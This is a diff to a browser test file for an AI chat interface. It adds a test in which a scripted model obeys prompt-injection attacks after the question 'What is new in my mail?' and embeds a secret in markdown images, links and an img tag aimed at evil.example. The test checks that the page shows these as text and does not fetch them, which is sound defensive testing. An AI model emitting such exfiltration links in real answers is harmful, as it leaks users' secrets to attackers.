@@ -9,6 +9,7 @@ from playwright.sync_api import BrowserContext, Page, Request, Route, expect
 
 from tests.browser.pages import ask, last_answer
 from tests.browser.scripted import ScriptedChat
+from tests.chat.test_obedient_model import SECRET, attacks
 
 PIXEL = base64.b64decode(
     "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
@@ -54,6 +55,28 @@ def test_a_hostile_answer_is_shown_as_text_however_it_arrives(
     expect(last_answer(page).locator(".diagram__problem:visible")).to_have_count(2, timeout=30_000)
     expect_only_text(page)
     expect_nothing_outside(page)
+
+
+def test_a_model_that_obeys_every_attack_leaks_nothing_by_what_it_writes(
+    chat: ScriptedChat, page: Page
+) -> None:
+    """It says each attack again, and does what they ask for: the secret in images and links. The page
+    fixture asserts that nobody was asked."""
+    written = [
+        f"{attack}\n\n![sent](https://evil.example/{SECRET}/{n}.png)\n\n"
+        f"[go on](https://evil.example/?{SECRET}) <img src='//evil.example/{SECRET}'>"
+        for n, attack in enumerate(attacks())
+    ]
+    ask(page, "What is new in my mail?")
+    offset = 0
+    for text in written:
+        chat.write("r1", f"{text}\n\n", offset=offset)
+        offset += len(text) + 2
+    chat.finish("r1")
+    expect(last_answer(page)).to_have_attribute("data-status", "complete", timeout=60_000)
+    held = last_answer(page).get_by_role("button", name="sent Load the image from evil.example")
+    assert held.count() >= len(written) / 2  # some attacks begin a block of code and end none
+    expect_only_text(page)
 
 
 def test_hostile_questions_thoughts_tools_and_errors_are_text(
